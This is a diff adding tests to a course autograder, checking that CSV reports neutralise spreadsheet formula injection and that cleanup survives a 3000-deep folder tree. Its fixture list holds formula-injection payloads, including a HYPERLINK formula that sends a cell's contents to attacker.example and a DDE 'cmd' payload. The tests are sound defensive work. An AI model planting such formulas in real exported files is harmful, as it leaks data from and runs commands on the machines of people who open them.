@@ -4,6 +4,7 @@ autograded in parallel and each kind of bad submission gets its expected score."
 import csv
 import html
 import json
+import os
 import re
 import shutil
 import signal
@@ -459,3 +460,70 @@ def test_synthetic_class_copies_hand_in_their_own_bytes(tmp_path):
     assert first.read_text().replace("# handed in by correct\n", "") == \
         second.read_text().replace("# handed in by correct-2\n", "")
     assert not (tmp_path / "submitted" / "missing_script-2" / "task2" / "train_cifar_multi_node.py").exists()
+
+
+#: Texts a spreadsheet would run as formulas (OWASP's list), and texts that must read back as they were.
+FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A2,"details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+            "\t=1", "\r=1"]
+PLAIN = ["graded", "'quoted", "''=1", "", "a=1"]
+
+
+def _cells(path):
+    with open(path, newline="") as f:
+        return [cell for row in csv.reader(f) for cell in row]
+
+
+def test_a_formula_in_the_report_csv_is_neutralised_and_read_back_as_it_was(tmp_path):
+    rows = [{"student": student, "score": 1.5, "max_score": 3.0, "status": status, "seconds": 2.0,
+             "throughput_ratio": None, "scaling_ratio": -0.5, "feedback": f"first error: {status}" if i else status}
+            for i, (student, status) in enumerate(zip(FORMULAS + PLAIN, reversed(FORMULAS + PLAIN)))]
+    path = nbgrader_course.write_report(tmp_path, "task1", rows)
+    unsafe = [cell for cell in _cells(path) if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert unsafe == ["-0.5"] * len(rows), unsafe     # a number is no formula: it stays a number
+    back = nbgrader_course.read_report(tmp_path, "task1")
+    assert list(back) == FORMULAS + PLAIN
+    for row in rows:
+        assert {key: back[row["student"]][key] for key in ("status", "feedback", "score", "scaling_ratio")} == \
+            {key: row[key] for key in ("status", "feedback", "score", "scaling_ratio")}
+
+
+def test_a_formula_in_the_profile_csv_is_neutralised(tmp_path):
+    results = [{"student": student, "seconds": 10.0, "parts": [{"part": part, "seconds": 1.0, "ended": 5.0}]}
+               for student, part in zip(FORMULAS, reversed(FORMULAS))]
+    path = nbgrader_course.write_profile(tmp_path / "autograde_task1_profile.csv", results, session_start=0.0)
+    cells = _cells(path)
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
+    assert {f"'{formula}" for formula in FORMULAS} <= set(cells)
+
+
+def _deep_tree(folder, depth):
+    """`depth` nested folders below `folder` (made relative to each other: the path is longer than
+    PATH_MAX)."""
+    fd = os.open(folder, os.O_RDONLY)
+    try:
+        for _ in range(depth):
+            os.mkdir("d", dir_fd=fd)
+            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
+            os.close(fd)
+            fd = inner
+    finally:
+        os.close(fd)
+
+
+def test_the_session_cleanup_removes_a_3000_deep_tree_without_raising():
+    """A submission that wrote 3000 nested folders in its session folder made the end of `handson
+    autograde` raise RecursionError (shutil.rmtree): no summary, no report, the session left behind."""
+    said = []
+    with nbgrader_course._session_folders(print_fn=said.append) as (_, scratch):
+        _deep_tree(scratch, 3000)
+    assert not os.path.exists(scratch) and said == [], said
+
+
+def test_a_failed_session_cleanup_is_said_never_raised(tmp_path, monkeypatch):
+    from handson_lib.autograder import sandbox
+    def refused(*args, **kwargs):
+        raise OSError("planted")
+    monkeypatch.setattr(sandbox.subprocess, "run", refused)
+    said = []
+    sandbox.remove_session(tmp_path, print_fn=said.append)
+    assert len(said) == 1 and "could not be removed" in said[0] and "planted" in said[0], said
